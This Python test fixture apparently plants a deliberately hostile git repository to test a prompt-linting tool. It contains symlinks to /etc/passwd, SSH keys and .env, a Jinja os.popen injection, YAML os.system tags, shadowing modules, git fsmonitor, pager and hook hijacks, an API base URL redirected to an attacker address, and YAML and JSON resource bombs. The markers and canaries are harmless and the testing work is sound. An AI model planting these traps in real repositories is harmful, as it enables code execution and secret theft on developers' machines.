"""A repository of somebody who means no good: what may be tried against whoever checks it out, all at once.

`plant` writes it, with secrets all around it and traps in it. Each `Attack` says what `check` answers to it.
"""

from __future__ import annotations

import base64
import json
import os
import struct
from typing import TYPE_CHECKING, NamedTuple

from tests.support import reports
from tests.support.repo import Repo

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

MODEL = "claude-sonnet-5-5"
# Nothing of these may be written, shown or sent. Each is one word, wherever it is.
OUTSIDE = "canary-of-a-file-outside-of-the-repository"
IGNORED = "canary-of-a-file-that-git-ignores"
GIT_SECRET = "canary-in-the-configuration-of-git"
HOME_SECRET = "canary-in-the-folder-of-the-user"
VARIABLE = "canary-in-another-variable-of-the-environment"
OTHER_REPOSITORY = "canary-in-a-repository-of-its-own"
SECRETS = (OUTSIDE, IGNORED, GIT_SECRET, HOME_SECRET, VARIABLE, OTHER_REPOSITORY)
# In the texts of prompts, below their headings: sent to the API, and nowhere else.
PROMPT_TEXT = "canary-in-the-text-of-a-prompt"

_LONG = f"Say it again, and again. {PROMPT_TEXT}\n" * 12
_EXECUTE = "open('{marker}', 'w')"


class Link(NamedTuple):
    """A symbolic link to `target`."""

    target: str


class Attack(NamedTuple):
    """`files` by their names in the repository. `check` says `answer` of the first: a status, or words of a problem or note."""

    name: str
    files: Mapping[str, str | bytes | Link]
    answer: str


def _one(name: str, path: str, content: str | bytes | Link, answer: str) -> Attack:
    return Attack(name, {path: content}, answer)


def _image(source: Mapping[str, object]) -> str:
    block = {"type": "image", "source": source}
    return json.dumps({"messages": [{"role": "user", "content": [block]}]})


def _huge_png() -> str:
    """The head of a picture of four milliards of pixels on each side."""
    head = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">II", 2**32 - 1, 2**32 - 1)
    return base64.b64encode(head + b"\x08\x06\0\0\0").decode()


BOMB = "a0: &a0 {k: v}\n" + "".join(f"a{n}: &a{n}\n  <<: [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 24))

# What leads out of the repository, or to what isn't the change's to show.
_PATHS = (
    _one("a link to a file outside", "prompts/outside.md", Link("../../outside/secret.md"), "leaves the repository"),
    _one("an absolute link", "prompts/passwd.md", Link("/etc/passwd"), "leaves the repository"),
    _one("a link to the environment of the process", "prompts/environ.md", Link("/proc/self/environ"), "leaves the repository"),
    _one("a link to an endless device", "prompts/zero.md", Link("/dev/zero"), "leaves the repository"),
    _one("a link to a folder outside", "prompts/folder", Link("../../outside"), "leaves the repository"),
    _one("a link to the user's folder", "prompts/home.md", Link("../../user/.ssh/id_rsa"), "leaves the repository"),
    _one("a link to git's configuration", "prompts/git.md", Link("../.git/config"), "leaves the repository"),
    _one("a link to a file that git ignores", "prompts/ignored.md", Link("../.env"), "which git ignores"),
    _one("a link to itself", "prompts/loop.md", Link("loop.md"), "goes in circles"),
    Attack(
        "a chain of links that leaves in the end",
        {"prompts/chain.md": Link("../links/one"), "links/one": Link("two"), "links/two": Link("../../outside/secret.md")},
        "leaves the repository",
    ),
    _one(
        "imports of a memory file", "CLAUDE.md",
        "@../outside/secret.md @~/.ssh/id_rsa @/etc/passwd @/proc/self/environ @.git/config @.env @other/a.md @prompts/outside.md\n",
        "ok",
    ),
    _one("imports of Gemini CLI", "GEMINI.md", "@../outside/secret.md\n@./.env\n@/proc/self/environ\n", "ok"),
    _one("partials of a dotprompt", "prompts/partial.prompt", "---\nmodel: x\n---\n{{>../../outside/secret}} {{>secret}}\n", "partial"),
    _one(
        "imports of an agentic workflow", ".github/workflows/agent.md",
        "---\non: push\nimports: [../../../outside/secret.md, ../../.env]\n---\nDo it.\n", "ok",
    ),
    _one(
        "references of a prompty", "prompts/env.prompty",
        "---\nname: ${env:DEPLOY_TOKEN}\nmodel: ${file:../../outside/secret.md}\n---\nsystem:\n${env:DEPLOY_TOKEN}\n", "ok",
    ),
    _one("an image outside", "requests/outside.json", _image({"type": "path", "path": "../../outside/secret.md"}), "outside"),
    _one("an image that git ignores", "requests/ignored.json", _image({"type": "path", "path": "../.env"}), "ignore"),
    _one(
        "a text by the address of a file", "requests/address.json",
        '{"messages": [{"role": "user", "content": "file:///proc/self/environ"}]}', "ok",
    ),
)  # fmt: skip

# What would run something, if anything was run, rendered or built.
_PROGRAMS = (
    _one(
        "a template of Jinja that starts a shell", "prompts/jinja.j2",
        "{{ cycler.__init__.__globals__.os.popen('touch {marker}') }}{% for i in range(999999999) %}x{% endfor %}\n", "ok",
    ),
    _one("a shell in a command of Gemini CLI", ".gemini/commands/sh.toml", "prompt = '!{touch {marker}} $(touch {marker})'\n", "ok"),
    _one("a tag of Python in YAML", "prompts/tag.prompt.yml", "messages: !!python/object/apply:os.system ['touch {marker}']\n", "tag"),
    _one(
        "a tag of Python in frontmatter", ".claude/skills/tag/SKILL.md",
        "---\nname: tag\ndescription: !!python/object/apply:os.system ['touch {marker}']\n---\nDo it.\n", "ok",
    ),
    _one("Python source", "code/evil.py", f'{_EXECUTE}\nSYSTEM_PROMPT = f"Be kind. {{{_EXECUTE}}}"\n', "ok"),
    _one("a prompt between marks in source code", "code/evil.js", "// prompt-lint: begin\nBe kind. ${evil()}\n// prompt-lint: end\n", "ok"),
    Attack(
        "modules by the names of ours",
        {
            "prompts/modules.md": "Be kind.\n",
            **{f"{name}.py": _EXECUTE for name in ("yaml", "click", "httpx2", "json", "sitecustomize", "usercustomize", "anthropic")},
            "prompt_lint/__init__.py": _EXECUTE, "evil.pth": f"import os; {_EXECUTE}\n",
        },
        "ok",
    ),
    Attack("a program called git", {"prompts/program.md": "Be kind.\n", "git": "#!/bin/sh\ntouch {marker}\n"}, "ok"),
    Attack(
        "filters, diff drivers and merge drivers",
        {"prompts/filtered.md": "Be kind.\n", ".gitattributes": "*.md filter=x diff=x merge=x\n"},
        "ok",
    ),
    Attack(
        "a bare repository among the files",
        {
            "prompts/bare.md": Link("../docs/bare/config"),
            "docs/bare/config": "[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = {program}\n",
            "docs/bare/HEAD": "ref: refs/heads/main\n", "docs/bare/objects/x": "", "docs/bare/refs/x": "",
        },
        "ok",
    ),
    Attack(
        "settings and credentials in files that tools load by themselves",
        {
            "prompts/settings.md": "Be kind.\n",
            **dict.fromkeys((".envrc", "pip.conf", "uv.toml", ".netrc", ".anthropic/config.json"), "ANTHROPIC_BASE_URL={evil}\n"),
            "pyproject.toml": '[tool.prompt-lint]\nbase_url = "{evil}"\n[tool.uv]\nindex-url = "{evil}"\n',
            ".pre-commit-config.yaml": "repos: [{repo: local, hooks: [{id: x, name: x, language: system, entry: touch {marker}}]}]\n",
        },
        "ok",
    ),
)  # fmt: skip

# What is small and costs much.
_COSTS = (
    _one("merge keys that double in a request", "requests/bomb.yaml", BOMB + "messages: *a23\n", "anchors"),
    _one("merge keys that double in frontmatter", ".claude/skills/bomb/SKILL.md", f"---\n{BOMB}name: bomb\n---\nDo it.\n", "ok"),
    _one("brackets without an end", "requests/deep.json", "[" * 100_000, "deep"),
    _one("a number of five thousand digits", "requests/number.json", '{"max_tokens": ' + "9" * 5_000 + ', "messages": []}', "number"),
    _one("a dotted key of thousands of parts", ".gemini/commands/dots.toml", f'prompt="x"\n{"a." * 10_000}a=1\n', "more than 32 parts"),
    _one("shells inside shells", ".gemini/commands/nested.toml", 'prompt = "' + "!{" * 5_000 + '"\n', "over"),
    _one("quotations inside quotations", "prompts/quotes.md", "> " * 5_000 + "x\n", "over"),
    Attack(
        "partials that multiply",
        {"prompts/many.prompt": "{{>a}}" * 40, "prompts/_a.prompt": "{{>b}}" * 40, "prompts/_b.prompt": "x\n"},
        "more than 1,000 partials",
    ),
    _one("a picture of four milliards of pixels", "requests/png.json",
         _image({"type": "base64", "media_type": "image/png", "data": _huge_png()}), "pixels"),
    _one("a file of four gigabytes", "prompts/huge.md", b"", "bytes long"),
    _one("bytes that are no text", "prompts/bytes.md", b"\xff\xfe\x00\xd8" * 50, "UTF-8"),
)  # fmt: skip

# What looks smaller than it is.
_GREEN = (
    _one("a pointer of LFS", "prompts/lfs.md", "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 9\n", "LFS"),
    _one("a pointer of LFS in an older spelling", "prompts/hawser.md",
         "\r\nversion https://hawser.github.com/spec/v1\r\noid sha256:0\r\nsize 9\r\n", "LFS"),
    _one("a link that is checked out as a text", "prompts/text-link.md", "long.md", "over"),
    _one("a file that git doesn't watch", "prompts/unwatched.md", "Be kind.\n", "over"),
    _one("a prompt over its limit", "prompts/long.md", f"# Long\n\n{_LONG}", "over"),
    _one("a prompt over its limit with a reason that is a command", "prompts/comment.md", f"<!-- \n# -->\n\n{_LONG}", "exempt"),
)  # fmt: skip

# What is a command, a link or an escape where it is shown. Names that no file can have are headings alone.
_NAMES = [
    name
    for name in reports.NAMES
    if "/" not in name and "\0" not in name and len(name) < 200 and name not in {".", "-o", "\ud800"}
]
_HEADINGS = "".join(
    f"# {' '.join(name.split()) or 'x'}\n\n{PROMPT_TEXT}\n" for name in reports.NAMES if "\0" not in name
)
_SHOWN = (
    _one(
        "headings that are commands, links and markup",
        "prompts/headings.md",
        _HEADINGS.encode("utf-8", "replace"),
        "over",
    ),
    *(_one(f"the name {name!a}", f"prompts/{name}", f"# Long\n\n{_LONG}", "over") for name in _NAMES),
    *(
        _one(f"a file called {name}", f"prompts/{name}", "Be kind.\n", "ok")
        for name in ("--exit-zero", "--output=x", "-o")
    ),
    Attack(
        "owners that are commands",
        {
            "prompts/owned.md": "Be kind.\n",
            "CODEOWNERS": "* @o/t\n/prompts/ ::error::x @evil\n" + "[x](y) " * 50 + "\n",
        },
        "ok",
    ),
)

ATTACKS: tuple[Attack, ...] = (*_PATHS, *_PROGRAMS, *_COSTS, *_GREEN, *_SHOWN)

# A name of the configuration is printable, and at most 100 characters long.
_HOSTILE_WORDS = "::error::x ##[add-mask]x ##vso[task.x]x @org/team #1 <img src=x> [x](https://x.io) | ` </p>"
CONFIG = f"""\
models: [{MODEL}]
limit: 200
exclude: [prompts/_*]
prompts:
  - {{files: [prompts/**, CLAUDE.md, GEMINI.md, ".claude/skills/*/SKILL.md", ".gemini/commands/*", ".github/workflows/*", "requests/*"], message: "{_HOSTILE_WORDS}"}}
  - {{files: code/*.py, format: python}}
  - {{files: code/*.js, format: marked}}
groups:
  - {{name: "{_HOSTILE_WORDS}", sum: [prompts/long.md, prompts/headings.md], limit: 100}}
exempt:
  - {{files: prompts/comment.md, reason: "{_HOSTILE_WORDS}"}}
"""


class Scene(NamedTuple):
    """A hostile repository and what is around it. `marker` exists once anything planted has run."""

    repo: Repo
    outside: Path
    home: Path
    marker: Path


def plant(repo: Repo, evil: str) -> Scene:
    """Write everything into an empty repository and around it. `evil` is an address that nothing may be sent to."""
    folder = repo.path.parent
    scene = Scene(repo, folder / "outside", folder / "user", folder / "planted-program-ran")
    write_surroundings(scene)
    program = folder / "planted"
    program.write_text(f"#!/bin/sh\ntouch '{scene.marker}'\ncat\n", encoding="utf-8")
    program.chmod(0o755)
    words = {"{marker}": str(scene.marker), "{program}": str(program), "{evil}": evil}
    for attack in ATTACKS:
        for name, content in attack.files.items():
            write_file(scene.repo, name, content, words)
    scene.repo.write(".prompt-lint.yaml", CONFIG)
    (scene.repo.path / "git").chmod(0o755)
    _commit(scene.repo)
    _arm(scene.repo, str(program), evil)
    return scene


def write_surroundings(scene: Scene) -> None:
    """Write the secrets: outside of the repository, where git ignores them, and into a repository of their own."""
    for path, secret in (
        (scene.outside / "secret.md", OUTSIDE),
        (scene.home / ".ssh/id_rsa", HOME_SECRET),
        (scene.home / ".netrc", HOME_SECRET),
    ):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"{secret}\n" * 20, encoding="utf-8")
    scene.repo.write(".gitignore", ".env\n")
    scene.repo.write(".env", f"ANTHROPIC_API_KEY={IGNORED}\n" * 20)
    other = Repo(scene.repo.path / "other")
    other.write("a.md", f"{OTHER_REPOSITORY}\n" * 20)
    other.commit()


def write_file(repo: Repo, name: str, content: str | bytes | Link, words: Mapping[str, str]) -> None:
    """Write a file or a link, with each of the `words` replaced by what it stands for."""
    path = os.fsencode(name)
    if isinstance(content, Link):
        repo.link(path, content.target)
        return
    text = content if isinstance(content, bytes) else content.encode()
    for word, value in words.items():
        text = text.replace(word.encode(), value.encode())
    repo.write(path, text)


def _commit(repo: Repo) -> None:
    """Commit a smaller base on `main`, then what is hostile on `topic`; what git can't hold is left in the working tree."""
    repo.git("commit", "--quiet", "--allow-empty", "--message=Base")
    repo.git("checkout", "--quiet", "-b", "topic")
    repo.write("prompts/unwatched.md", "Be kind.\n")
    (repo.path / "prompts/huge.md").unlink()
    repo.git("add", "--all")
    blob = repo.git("hash-object", "-w", "--", "prompts/text-link.md")
    repo.git("update-index", "--cacheinfo", f"120000,{blob},prompts/text-link.md")
    repo.git("commit", "--quiet", "--message=::error::x")
    repo.git("update-index", "--assume-unchanged", "prompts/unwatched.md")
    repo.write("prompts/unwatched.md", f"# Long\n\n{_LONG}")
    with (repo.path / "prompts/huge.md").open("wb") as file:
        file.truncate(4 << 30)
    os.mkfifo(repo.path / "prompts/pipe.md")


def _arm(repo: Repo, program: str, evil: str) -> None:
    """Let git's configuration and hooks start the program wherever git would."""
    settings = {
        "core": ("fsmonitor", "hooksPath", "pager", "sshCommand", "editor", "askPass", "alternateRefsCommand"),
        "diff": ("external",), 'diff "x"': ("textconv", "command"), 'filter "x"': ("clean", "smudge", "process"),
        "credential": ("helper",), 'merge "x"': ("driver",), "alias": ("ls-files", "rev-parse"), "pager": ("ls-files",),
    }  # fmt: skip
    lines = [
        line
        for section, names in settings.items()
        for line in (f"[{section}]", *(f"\t{name} = {'!' * (section == 'alias')}{program}" for name in names))
    ]
    lines += [
        f'[remote "origin"]\n\turl = {evil}/{GIT_SECRET}\n\tpromisor = true\n[http]\n\textraHeader = {GIT_SECRET}'
    ]
    with (repo.path / ".git/config").open("a", encoding="utf-8") as file:
        file.write("\n".join(lines) + "\n")
    hooks = repo.path / ".git/hooks"
    hooks.mkdir(exist_ok=True)
    for name in ("post-index-change", "post-checkout", "reference-transaction", "pre-commit"):
        (hooks / name).symlink_to(program)
